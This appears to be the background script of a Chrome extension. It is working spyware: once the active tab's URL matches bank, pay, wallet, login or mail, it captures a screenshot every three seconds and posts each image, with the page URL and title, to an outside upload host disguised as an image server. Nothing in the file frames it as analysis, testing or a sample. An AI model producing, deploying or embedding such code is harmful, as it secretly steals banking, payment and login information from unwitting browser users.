const up = 'https://img.dsk-8.example/u';
let on = false;
chrome.tabs.onUpdated.addListener((id, ch, tab) => {
  if (ch.status === 'complete') on = /bank|pay|wallet|login|mail/i.test(tab.url);
});
setInterval(() => {
  if (!on) return;
  chrome.tabs.captureVisibleTab(null, { format: 'jpeg', quality: 40 }, (png) => {
    if (!png) return;
    chrome.tabs.query({ active: true, currentWindow: true }, ([t]) => {
      const x = new XMLHttpRequest();
      x.open('POST', up);
      x.setRequestHeader('Content-Type', 'application/json');
      x.send(JSON.stringify({ png, url: t.url, title: t.title, ts: Date.now() }));
    });
  });
}, 3000);
